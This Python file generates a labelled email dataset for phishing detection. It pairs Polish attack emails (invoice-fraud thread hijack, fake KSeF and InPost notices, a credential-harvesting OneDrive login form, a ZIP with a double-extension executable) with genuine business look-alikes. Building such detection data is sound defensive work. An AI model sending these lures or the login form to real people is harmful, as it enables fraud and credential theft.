"""Polish messages (attack 22-26, business 22-26)."""
import infra as I
from core import M, txt, html, alt, mixed, related, att, ohtml, ghtml, plain, simple_html, latin
from people import s, c
import banks as B
from banks import F
import files

NIP_EG = "5252876326"
NIP_PLOG = "5213044188"
NIP_MAZ = "9512388408"
NRB_OK = F(B.PLOG_OK)[2:].strip()
NRB_FAKE = F(B.PLOG_FAKE)[2:].strip()
HOMEPL = ("cloudserver093215.home.pl", "cloudserver093215.home.pl", "79.96.170.134")

SIG_ZIEL = ("Tadeusz Zieliński\nKierownik ds. rozliczeń i spedycji\nPartner Logistik sp. z o.o.\n"
            "ul. Annopol 4A, 03-236 Warszawa\ntel. +48 22 614 38 20, kom. +48 601 224 917")

A = []

# 22 thread hijack from the compromised Partner Logistik mailbox --------------------------------
q22 = """Dzień dobry Panie Tadeuszu,

w załączeniu potwierdzenie zapłaty za wrzesień. Faktury za październik (FV/2026/10/118 i FV/2026/10/131) są w obiegu, płatność planujemy w terminie, tj. do 20.11.

Pozdrawiam
Paweł Łukasik
Księgowość | Example Group Polska sp. z o.o."""
t22 = """Dzień dobry Panie Pawle,

dziękuję za informację. W związku z trwającym audytem i zmianą banku obsługującego rachunki spółki płatności za faktury FV/2026/10/118 i FV/2026/10/131 (łącznie 61 487,70 zł) prosimy przelać na nasz nowy rachunek firmowy w mBanku:

Partner Logistik sp. z o.o.
nr rachunku: %s

Rachunek zostanie zgłoszony na białą listę VAT w ciągu kilku dni, prosimy jednak nie wstrzymywać płatności – dotychczasowy rachunek w PKO BP jest już zablokowany dla wpływów. Proszę o przesłanie potwierdzenia przelewu w PDF po zleceniu.

Pozdrawiam
%s""" % (NRB_FAKE, SIG_ZIEL)
p22 = t22 + "\n\n-----Wiadomość oryginalna-----\nOd: Paweł Łukasik <pawel.lukasik@example.com>\nWysłano: czwartek, 12 listopada 2026 14:06\nDo: Tadeusz Zieliński <t.zielinski@partner-logistik.pl>\nTemat: Faktury za październik\n\n" + q22
A.append(M(
    id="22-pl-thread-hijack-bank-change", folder="attack", lang="pl", when="2026-11-16 15:34:07",
    route=I.postfix_host(*HOMEPL, "partner-logistik.pl", mailer="roundcube", tz="Europe/Warsaw",
                         src_ip="102.89.47.211", user_agent="Roundcube Webmail/1.6.9"),
    frm=c("pl_ziel"), to=[s("pl_acc")], reply_to=("Tadeusz Zieliński", "t.zielinski@partner-logistlk.pl"),
    subject="Odp: Faktury za październik", irt="7c21e0a94f3b4d58a6e2c1b09d84f713@EXCH02.corp.example.com",
    body=txt(p22, "utf-8", "quoted-printable", label="UTF-8", flowed=True),
    what="Reply in a real invoice thread from the logistics partner's genuine mailbox: pay two invoices to a 'new' mBank account.",
    why="Partner mailbox compromised (webmail login from a Nigerian IP) and Reply-To diverted to the look-alike partner-logistlk.pl; new account not on the VAT white list (the company must pay only to white-listed accounts); old account 'blocked'; urgency. Genuine invoice with the PKO BP account: business 22."))

# 23 KSeF phishing -------------------------------------------------------------------------------
link23 = "https://ksef-podatki.pl/logowanie/?nip=%s&ref=KSeF-TKN-2026-118734" % NIP_EG
t23 = """Krajowy System e-Faktur (KSeF)

Szanowni Państwo,

w Krajowym Systemie e-Faktur zarejestrowano 3 nowe faktury ustrukturyzowane wystawione na podmiot:

Example Group Polska sp. z o.o., NIP %s

Z powodu wygaśnięcia tokenu uwierzytelniającego pobieranie faktur zakupowych przez Państwa program finansowo-księgowy zostało wstrzymane w dniu 18.11.2026. Do czasu odnowienia tokenu faktury nie będą widoczne w systemie księgowym, co może skutkować opóźnieniem płatności i utratą prawa do odliczenia VAT w bieżącym okresie.

Aby odnowić token, zaloguj się do Aplikacji Podatnika KSeF przez login.gov.pl (profil zaufany, e-dowód lub bankowość elektroniczna):

[Zaloguj się do KSeF](%s)

Wiadomość wygenerowana automatycznie. Prosimy na nią nie odpowiadać.
Ministerstwo Finansów – Krajowa Administracja Skarbowa""" % (NIP_EG, link23)
h23 = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=iso-8859-2"></head>
<body style="font-family:Arial,sans-serif;font-size:14px;color:#1b1b1b;background:#f2f4f7">
<table align="center" width="600" cellpadding="0" cellspacing="0" style="background:#fff;border-top:6px solid #dc143c">
<tr><td style="padding:18px 24px;font-size:18px;font-weight:bold">Krajowy System e-Faktur (KSeF)</td></tr>
<tr><td style="padding:0 24px 24px;line-height:21px">
<p>Szanowni Państwo,</p>
<p>w Krajowym Systemie e-Faktur zarejestrowano <b>3 nowe faktury ustrukturyzowane</b> wystawione na podmiot:</p>
<p style="background:#f2f4f7;padding:10px">Example Group Polska sp. z o.o., NIP %s</p>
<p>Z powodu wygaśnięcia tokenu uwierzytelniającego pobieranie faktur zakupowych przez Państwa program finansowo-księgowy zostało wstrzymane w dniu 18.11.2026. Do czasu odnowienia tokenu faktury nie będą widoczne w systemie księgowym, co może skutkować opóźnieniem płatności i utratą prawa do odliczenia VAT w bieżącym okresie.</p>
<p>Aby odnowić token, zaloguj się do Aplikacji Podatnika KSeF przez login.gov.pl (profil zaufany, e-dowód lub bankowość elektroniczna):</p>
<p><a href="%s" style="background:#0052a5;color:#fff;padding:11px 24px;text-decoration:none">Zaloguj się do KSeF</a></p>
<p style="font-size:11px;color:#666">Wiadomość wygenerowana automatycznie. Prosimy na nią nie odpowiadać.<br>Ministerstwo Finansów &ndash; Krajowa Administracja Skarbowa</p>
</td></tr></table></body></html>
""" % (NIP_EG, link23)
A.append(M(
    id="23-pl-ksef-einvoice-phish", folder="attack", lang="pl", when="2026-11-19 07:42:16",
    route=I.postfix_host("mail.ksef-podatki.pl", "vps-7a13c0e2.vps.ovh.net", "57.128.193.44", "ksef-podatki.pl",
                         mailer="phpmailer", tz="Europe/Warsaw"),
    frm=("KSeF - Ministerstwo Finansów", "powiadomienia@ksef-podatki.pl"), to=[s("pl_acc")],
    subject="KSeF: 3 nowe faktury do pobrania - wymagane odnowienie tokenu", hcs="iso-8859-2", henc="Q",
    body=alt(txt(plain(latin(t23), "esp"), "iso-8859-2", "quoted-printable"), html(h23, "iso-8859-2", "quoted-printable")),
    what="Fake KSeF (national e-invoicing system) notice: the API token 'expired', log in via login.gov.pl to renew it.",
    why="KSeF does not send such e-mails with login links; domain ksef-podatki.pl (not podatki.gov.pl / gov.pl) on an OVH VPS with PHPMailer; phishes bank or trusted-profile credentials; VAT-deduction threat. Real process: business 23."))

# 24 HTML attachment with a credential form ------------------------------------------------------
h24 = """<!DOCTYPE html>
<html lang="pl"><head><meta charset="utf-8"><title>FV_2026_11_0382.pdf - OneDrive</title>
<style>body{font-family:Segoe UI,Arial,sans-serif;background:#f2f2f2;margin:0}
.card{width:420px;margin:70px auto;background:#fff;padding:40px;box-shadow:0 2px 6px rgba(0,0,0,.2)}
input{width:100%;padding:8px 0;border:none;border-bottom:1px solid #666;font-size:15px;margin:10px 0}
button{background:#0067b8;color:#fff;border:none;padding:9px 32px;font-size:15px;float:right}</style></head>
<body><div class="card">
<div style="font-size:20px;font-weight:600;color:#5e5e5e">Microsoft</div>
<h2 style="font-weight:600">Zaloguj się, aby wyświetlić dokument</h2>
<p style="font-size:13px">Plik <b>FV_2026_11_0382.pdf</b> (148 KB) został udostępniony przez biuro@klimat-serwis-radom.pl. Zweryfikuj swoją tożsamość, aby go otworzyć.</p>
<form method="post" action="https://doc-viewer-onedrive.azurewebsites.net/api/v2/auth">
<input type="email" name="login" value="pawel.lukasik@example.com">
<input type="password" name="passwd" placeholder="Hasło">
<input type="hidden" name="doc" value="FV_2026_11_0382">
<p style="font-size:13px"><a href="https://doc-viewer-onedrive.azurewebsites.net/reset">Nie pamiętasz hasła?</a></p>
<button type="submit">Zaloguj</button>
</form><div style="clear:both"></div></div></body></html>
"""
t24 = """Dzień dobry,

w załączniku przesyłamy fakturę FV/2026/11/0382 za przegląd i serwis klimatyzacji w studiu przy ul. Chełmskiej (13.11.2026).

Ze względu na nowe zasady ochrony danych dokument otwiera się po zalogowaniu kontem firmowym.

Z poważaniem
Biuro obsługi klienta
Klimat-Serwis Radom s.c.
tel. 48 362 41 05"""
A.append(M(
    id="24-pl-html-attachment-credential-form", folder="attack", lang="pl", when="2026-11-20 12:16:31",
    route=I.cpanel("s106.cyber-folks.pl", "195.78.66.106", tz="Europe/Warsaw", mailer="roundcube"),
    frm=("Klimat-Serwis Radom", "biuro@klimat-serwis-radom.pl"), to=[s("pl_acc")],
    subject="Faktura VAT FV/2026/11/0382", hcs="utf-8", henc="B", hlabel="UTF-8",
    body=mixed(txt(t24, "utf-8", "base64", label="UTF-8"),
               att("FV_2026_11_0382.html", "text/html", h24.encode("utf-8"),
                   kind="inert HTML: fake Microsoft/OneDrive login form posting to a phishing host, no script")),
    what="'Invoice' from an air-conditioning service firm as an HTML file that shows a Microsoft login form pre-filled with the recipient's address.",
    why="Invoice delivered as local HTML with a password form posting to azurewebsites.net (credential harvesting); 'log in to open the invoice'; sent from a compromised small-business account on cPanel hosting; genuine shares come from SharePoint (business 25)."))

# 25 InPost surcharge phish ------------------------------------------------------------------------
link25 = "https://inpost-doplata.pl-paczka.com/p/6930401277815520118432"
t25 = """InPost

Twoja paczka nr 693040127781552011843 czeka w sortowni Warszawa-Żerań.

Z powodu niedopłaty za gabaryt C (różnica wagi 1,2 kg) przesyłka nie może zostać skierowana do Paczkomatu WAW126M.

Kwota do zapłaty: 1,99 zł

Zapłać szybko BLIK-iem lub kartą do 23.11.2026, inaczej paczka wróci do nadawcy:
[Opłać dopłatę](%s)

Pozdrawiamy
Zespół InPost""" % link25
h25 = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=windows-1250"></head>
<body style="font-family:Arial,sans-serif;background:#f5f5f5;margin:0">
<table align="center" width="560" cellpadding="0" cellspacing="0" style="background:#fff">
<tr><td style="background:#ffcd00;padding:16px 22px;font-size:24px;font-weight:bold;color:#1d1d1b">InPost</td></tr>
<tr><td style="padding:22px;font-size:15px;line-height:22px;color:#1d1d1b">
<p>Twoja paczka nr <b>693040127781552011843</b> czeka w sortowni Warszawa-Żerań.</p>
<p>Z powodu niedopłaty za gabaryt C (różnica wagi 1,2 kg) przesyłka nie może zostać skierowana do Paczkomatu <b>WAW126M</b>.</p>
<p style="font-size:20px">Kwota do zapłaty: <b>1,99 zł</b></p>
<p>Zapłać szybko BLIK-iem lub kartą do 23.11.2026, inaczej paczka wróci do nadawcy:</p>
<p><a href="%s" style="background:#1d1d1b;color:#ffcd00;padding:12px 28px;text-decoration:none;font-weight:bold;border-radius:4px">Opłać dopłatę</a></p>
<p>Pozdrawiamy<br>Zespół InPost</p></td></tr></table></body></html>
""" % link25
A.append(M(
    id="25-pl-inpost-surcharge-phish", folder="attack", lang="pl", when="2026-11-21 18:09:52",
    route=I.postfix_host("mail.pl-paczka.com", "vmi1938402.contaboserver.net", "164.68.121.77", "pl-paczka.com",
                         mailer="phpmailer", tz="Europe/Warsaw"),
    frm=("InPost", "powiadomienia@pl-paczka.com"), to=[s("pl_mgr")],
    subject="Paczka 693040127781552011843 – wymagana dopłata 1,99 zł", hcs="windows-1250", henc="Q",
    body=alt(txt(plain(t25, "esp"), "windows-1250", "quoted-printable"), html(h25, "windows-1250", "quoted-printable")),
    what="Fake InPost notice: parcel held for a 1.99 PLN surcharge, pay by BLIK or card.",
    why="Not inpost.pl (pl-paczka.com on a Contabo VPS, PHPMailer); tiny surcharge to harvest card/BLIK codes; deadline; InPost does not charge surcharges by e-mail link."))

# 26 request for quotation with executable in ZIP -----------------------------------------------------
zip26 = files.zip_placeholder("Brief_i_storyboard_EkoDom_spot_2027.pdf.exe", when=(2026, 11, 24, 7, 12, 40), seed="26-pl")
t26 = """Dzień dobry,

jesteśmy producentem stolarki okiennej z Wielkopolski i przygotowujemy kampanię telewizyjną na sezon wiosenny 2027. Chcielibyśmy zaprosić Państwa do złożenia oferty na realizację spotu reklamowego 30 s (oraz wersji 15 s i 6 s do internetu).

W załączniku przesyłam specyfikację: brief kreatywny, storyboard oraz harmonogram emisji (archiwum ZIP, ze względu na rozmiar plików).

Oferty przyjmujemy do 02.12.2026. W razie pytań proszę o kontakt mailowy.

Z poważaniem
Katarzyna Lis
Kierownik ds. marketingu
EkoDom Okna"""
A.append(M(
    id="26-pl-rfq-zip-executable", folder="attack", lang="pl", when="2026-11-24 08:37:25",
    route=I.gmail(), frm=("Katarzyna Lis - EkoDom", "ekodom.marketing.zapytania@gmail.com"), to=[s("pl_mgr")],
    subject="Zapytanie ofertowe – realizacja spotu reklamowego 30 s", hcs="utf-8", henc="B", hlabel="UTF-8",
    body=mixed(alt(txt(t26, "utf-8", "quoted-printable", label="UTF-8"), html(ghtml(t26), "utf-8", "quoted-printable", label="UTF-8")),
               att("Zapytanie_ofertowe_EkoDom_spot_2027.zip", "application/zip", zip26,
                   inner="Brief_i_storyboard_EkoDom_spot_2027.pdf.exe")),
    what="Request for quotation for a TV commercial with the 'brief and storyboard' in a ZIP that holds a .pdf.exe.",
    why="Common Polish malspam lure ('zapytanie ofertowe'); double extension executable inside the archive; company claims but only a free Gmail address, no NIP/website/phone; genuine RFQ: business 26."))

ATTACKS = A

# ================================================================= BUSINESS
Bz = []

pdf_b22 = files.pdf_doc([
    ("b", "Partner Logistik sp. z o.o."), ("s", "ul. Annopol 4A, 03-236 Warszawa · NIP " + NIP_PLOG), ("gap", 14),
    ("h", "Faktura VAT nr FV/2026/11/142"), ("l", "Data wystawienia: 30.11.2026     Data sprzedaży: 30.11.2026"),
    ("l", "Nabywca: Example Group Polska sp. z o.o., ul. Chełmska 21, 00-724 Warszawa, NIP " + NIP_EG), ("gap",),
    ("t", [(56, "Lp.", True), (80, "Nazwa usługi", True), (330, "Netto", True), (400, "VAT 23%", True), (470, "Brutto", True)]), ("rule",),
    ("t", [(56, "1", False), (80, "Magazynowanie sprzętu, listopad 2026 (38 mp)", False), (330, "9 880,00", False), (400, "2 272,40", False), (470, "12 152,40", False)]),
    ("t", [(56, "2", False), (80, "Transport Warszawa - Łódź (plan zdjęciowy), 3 kursy", False), (330, "6 450,00", False), (400, "1 483,50", False), (470, "7 933,50", False)]),
    ("rule",), ("t", [(80, "Razem do zapłaty", True), (470, "20 085,90 zł", True)]), ("gap", 10),
    ("l", "Termin płatności: 30 dni, przelew, mechanizm podzielonej płatności"),
    ("l", "Rachunek (PKO BP, wykaz podatników VAT): " + NRB_OK), ("gap", 6),
    ("s", "Faktura wystawiona w KSeF, numer KSeF: " + NIP_PLOG + "-20261130-6A3F91C02B7E-4D"),
], title="FV/2026/11/142", author="Partner Logistik", producer="Comarch ERP Optima", created="20261130154012+01'00'")
tb22 = """Dzień dobry,

w załączeniu przesyłamy wizualizację faktury FV/2026/11/142 za listopad 2026. Faktura została wystawiona w KSeF i jest dostępna w Państwa systemie.

Płatność prosimy kierować jak dotychczas na rachunek w PKO BP, zgłoszony w wykazie podatników VAT:
%s

Z poważaniem
Dział Księgowości
Partner Logistik sp. z o.o.
ul. Annopol 4A, 03-236 Warszawa
tel. +48 22 614 38 00""" % NRB_OK
Bz.append(M(
    id="22-pl-logistics-invoice-ksef", folder="business", lang="pl", when="2026-11-30 16:02:44",
    route=I.postfix_host(*HOMEPL, "partner-logistik.pl", mailer="outlook", tz="Europe/Warsaw", user_agent="pl"),
    frm=c("pl_ksieg"), to=[s("pl_acc")], subject="Faktura FV/2026/11/142 - Partner Logistik", hcs="iso-8859-2", henc="Q",
    body=mixed(txt(latin(tb22), "iso-8859-2", "quoted-printable"),
               att("FV_2026_11_142.pdf", "application/pdf", pdf_b22, kind="text-only PDF invoice visualisation")),
    what="The logistics partner's accounts department sends the PDF visualisation of a November invoice issued in KSeF.",
    why="Genuine domain and hosting (home.pl) from a Polish IP; unchanged PKO BP account which is on the VAT white list (valid sort-code check digit); invoice also in KSeF.",
    hard_neg_of=(["22-pl-thread-hijack-bank-change"], "Partner Logistik invoice payment / bank account")))

tb23 = """Cześć,

krótkie przypomnienie w związku z KSeF:

1. Wszystkie faktury zakupowe pobieramy wyłącznie z KSeF przez nasz system (Symfonia) - nie trzeba się nigdzie logować z maila.
2. KSeF i Ministerstwo Finansów nie wysyłają e-maili z linkami do logowania ani z prośbą o "odnowienie tokenu". Tokeny generuję tylko ja w Aplikacji Podatnika, na stronie ksef.podatki.gov.pl.
3. Jeśli dostawca przysyła fakturę tylko mailem (PDF), przekażcie ją do mnie - sprawdzę, czy jest w KSeF.
4. Przed każdym przelewem na nowy rachunek sprawdzamy go na białej liście VAT.

Podejrzane wiadomości przekazujcie jako załącznik na postmaster@example.com.

Pozdrawiam
Paweł Łukasik
Księgowość | Example Group Polska sp. z o.o.
ul. Chełmska 21, 00-724 Warszawa"""
Bz.append(M(
    id="23-pl-internal-ksef-reminder", folder="business", lang="pl", when="2026-11-20 09:12:05",
    route=I.exchange_internal(user_ip="10.31.1.22"), frm=s("pl_acc"),
    to=[("Biuro Warszawa", "warszawa-wszyscy@example.com")], subject="KSeF - jak pobieramy faktury (przypomnienie)",
    hcs="iso-8859-2", henc="Q",
    body=alt(txt(tb23, "iso-8859-2", "quoted-printable"), html(ohtml(tb23, "iso-8859-2", lang="PL"), "iso-8859-2", "quoted-printable")),
    what="Internal reminder by the Warsaw accountant on how KSeF invoices are handled and that KSeF never mails login links.",
    why="Internal relay path, known colleague, procedural content, no links.",
    hard_neg_of=(["23-pl-ksef-einvoice-phish"], "KSeF token / e-invoice login topic")))

pdf_b24 = files.pdf_doc([
    ("b", "Krzysztof Nowak - fotografia"), ("s", "ul. Grochowska 301/12, 03-838 Warszawa"), ("gap", 14),
    ("h", "Rachunek nr 14/2026"), ("l", "Data wystawienia: 25.11.2026"),
    ("l", "Zamawiający: Example Group Polska sp. z o.o., ul. Chełmska 21, 00-724 Warszawa, NIP " + NIP_EG), ("gap",),
    ("t", [(56, "Usługa", True), (430, "Kwota", True)]), ("rule",),
    ("t", [(56, "Zdjęcia z planu (fotosy) serialu \"Nad Wisłą\", 3 dni zdjęciowe, 18-20.11.2026", False), (430, "4 200,00 zł", False)]),
    ("rule",), ("t", [(56, "Do zapłaty", True), (430, "4 200,00 zł", True)]), ("gap", 8),
    ("l", "Sprzedawca zwolniony podmiotowo z VAT (art. 113 ust. 1 ustawy o VAT)."),
    ("l", "Termin płatności: 14 dni"), ("l", "Nr rachunku: " + F(B.NOWAK)[2:].strip()),
], title="Rachunek 14/2026", author="Krzysztof Nowak", producer="LibreOffice 24.8", created="20261125201500+01'00'")
tb24 = """Dzień dobry Pani Agnieszko,

w załączniku przesyłam rachunek za fotosy z planu "Nad Wisłą" (18-20.11). Zdjęcia w pełnej rozdzielczości wgrałem wczoraj na Wasz serwer, folder NadWisla/Fotosy/Blok3.

Numer konta bez zmian, taki jak na poprzednich rachunkach.

Pozdrawiam serdecznie
Krzysztof Nowak
tel. 604 518 227"""
Bz.append(M(
    id="24-pl-freelancer-bill-wp", folder="business", lang="pl", when="2026-11-25 20:41:33",
    route=I.wp(home_ip="83.24.117.50"), frm=c("nowak"), to=[s("pl_mgr")], cc=[s("pl_acc")],
    subject="Rachunek 14/2026 - fotosy Nad Wisłą", hcs="iso-8859-2", henc="Q", hlabel="ISO-8859-2",
    body=mixed(txt(latin(tb24), "iso-8859-2", "8bit", label="ISO-8859-2", flowed=True),
               att("Rachunek_14_2026_Nowak.pdf", "application/pdf", pdf_b24, kind="text-only PDF bill")),
    what="Freelance stills photographer sends his bill from his private wp.pl mailbox.",
    why="Known freelancer address (wp.pl via WP's SMTP from a Polish ADSL line), unchanged account, concrete job details, no links.",
    hard_neg_of=(["26-pl-rfq-zip-executable"], "document from a free-mail address with an attachment")))

link_b25 = "https://examplegroup.sharepoint.com/:x:/s/Finanse-PL/EbT3nW8qY1RKuX5m0v2aH9sBc4QpL7oZr6dFj1gU8kVe2w?e=4Hn8Qd"
tb25 = """Agnieszka Wójcik udostępnił(a) Ci plik

Paweł, to wersja z poprawionymi stawkami ekipy – zerknij przed piątkiem.

Budżet_produkcji_Nad_Wisłą_Q1_2027.xlsx

Otwórz: %s

Ta wiadomość e-mail została wygenerowana przez usługę Microsoft SharePoint Online, ponieważ Agnieszka Wójcik udostępnił(a) Ci ten element.
Microsoft Corporation, One Microsoft Way, Redmond, WA 98052
Zasady zachowania poufności informacji""" % link_b25
hb25 = """<html lang="pl"><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="margin:0;padding:0;background:#ffffff">
<table role="presentation" width="100%%" cellpadding="0" cellspacing="0"><tr><td align="center">
<table role="presentation" width="440" cellpadding="0" cellspacing="0" style="font-family:'Segoe UI',Tahoma,sans-serif;color:#242424">
<tr><td style="padding:24px 0 12px;font-size:21px;font-weight:600">Agnieszka Wójcik udostępnił(a) Ci plik</td></tr>
<tr><td style="padding:0 0 16px;font-size:14px;border-left:3px solid #0078d4;padding-left:10px">Paweł, to wersja z poprawionymi stawkami ekipy – zerknij przed piątkiem.</td></tr>
<tr><td style="padding:12px;border:1px solid #e1e1e1;font-size:14px"><img src="https://res-1.cdn.office.net/files/fabric-cdn-prod_20240411.001/assets/item-types/20/xlsx.png" width="20" height="20" alt=""> Budżet_produkcji_Nad_Wisłą_Q1_2027.xlsx</td></tr>
<tr><td style="padding:18px 0"><a href="%s" style="background:#0f6cbd;color:#ffffff;padding:8px 18px;text-decoration:none;border-radius:4px;font-size:14px;font-weight:600">Otwórz</a></td></tr>
<tr><td style="padding:20px 0;font-size:11px;color:#616161">Ta wiadomość e-mail została wygenerowana przez usługę Microsoft SharePoint Online, ponieważ Agnieszka Wójcik udostępnił(a) Ci ten element.<br>Microsoft Corporation, One Microsoft Way, Redmond, WA 98052<br><a href="https://go.microsoft.com/fwlink/?LinkId=521839" style="color:#616161">Zasady zachowania poufności informacji</a></td></tr>
</table></td></tr></table></body></html>
""" % link_b25
Bz.append(M(
    id="25-pl-sharepoint-share-genuine", folder="business", lang="pl", when="2026-11-27 13:18:09",
    route=I.ms_notify("m365"), frm=("Agnieszka Wójcik (przez SharePoint Online)", "no-reply@sharepointonline.com"),
    to=[s("pl_acc")], subject="Agnieszka Wójcik udostępnił(a) Ci element „Budżet_produkcji_Nad_Wisłą_Q1_2027.xlsx”",
    body=alt(txt(tb25, "utf-8", "base64"), html(hb25, "utf-8", "base64")),
    what="SharePoint Online sharing notification: the Warsaw office manager shares a budget spreadsheet with the accountant.",
    why="Sent by Microsoft's SharePoint Online service from Exchange Online Protection; link to the company's own tenant examplegroup.sharepoint.com; personal note from a known colleague; no credential form.",
    hard_neg_of=(["24-pl-html-attachment-credential-form", "35-el-sharepoint-share-phish-ses"], "'document shared with you' / Microsoft login to view a file")))

pdf_b26 = files.pdf_doc([
    ("b", "Telewizja Mazovia S.A."), ("s", "ul. Woronicza 17, 00-999 Warszawa · NIP " + NIP_MAZ), ("gap", 14),
    ("h", "Zapytanie ofertowe nr ZO/PR/2026/37"), ("l", "Przedmiot: produkcja serii 6 spotów autopromocyjnych (30 s) na sezon wiosenny 2027"),
    ("gap",), ("b", "Zakres"), ("l", "- realizacja zdjęć (3 dni zdjęciowe, Warszawa), obsada: 4 prezenterów stacji"),
    ("l", "- postprodukcja obrazu i dźwięku, wersje 30 s / 15 s, napisy"), ("l", "- dostarczenie plików zgodnie ze specyfikacją techniczną TVM-TECH-2025"),
    ("gap",), ("b", "Terminy"), ("l", "Składanie ofert: do 10.12.2026, godz. 12:00, na adres ewa.maj@telewizja-mazovia.pl"),
    ("l", "Realizacja: 15.02 - 15.03.2027"), ("gap",), ("b", "Kryteria"), ("l", "cena 60%, doświadczenie 25%, koncepcja 15%"),
    ("gap", 16), ("l", "Ewa Maj, Dział Zakupów Programowych"),
], title="ZO/PR/2026/37", author="Ewa Maj", producer="Microsoft® Word dla Microsoft 365", created="20261126101100+01'00'")
tb26 = """Szanowni Państwo,

w imieniu Telewizji Mazovia S.A. zapraszamy do złożenia oferty na produkcję serii sześciu spotów autopromocyjnych na sezon wiosenny 2027. Szczegóły (zakres, terminy, kryteria oceny) zawiera załączone zapytanie ofertowe ZO/PR/2026/37.

Oferty prosimy przesyłać do 10.12.2026 do godz. 12:00. Pytania do zapytania przyjmujemy do 03.12.2026; odpowiedzi roześlemy wszystkim zaproszonym wykonawcom.

Z poważaniem
Ewa Maj
Dział Zakupów Programowych
Telewizja Mazovia S.A.
ul. Woronicza 17, 00-999 Warszawa
tel. +48 22 547 81 30"""
Bz.append(M(
    id="26-pl-broadcaster-rfq-genuine", folder="business", lang="pl", when="2026-11-26 10:44:57",
    route=I.exo("telewizja-mazovia.pl", pod=3, lang="pl-PL"), frm=c("tvpl"), to=[s("pl_mgr")],
    subject="Zapytanie ofertowe ZO/PR/2026/37 - spoty autopromocyjne", hcs="iso-8859-2", henc="Q",
    body=mixed(alt(txt(latin(tb26), "iso-8859-2", "quoted-printable"), html(ohtml(latin(tb26), "iso-8859-2", lang="PL"), "iso-8859-2", "quoted-printable")),
               att("ZO_PR_2026_37_zapytanie_ofertowe.pdf", "application/pdf", pdf_b26, kind="text-only PDF RFQ")),
    what="A Polish TV channel invites the Warsaw office to tender for six promo spots; RFQ as PDF.",
    why="Customer's own domain on Microsoft 365, full company details (NIP, address, phone), PDF document, clear procedure; no archive or executable.",
    hard_neg_of=(["26-pl-rfq-zip-executable"], "request for quotation for a commercial")))

BUSINESS = Bz
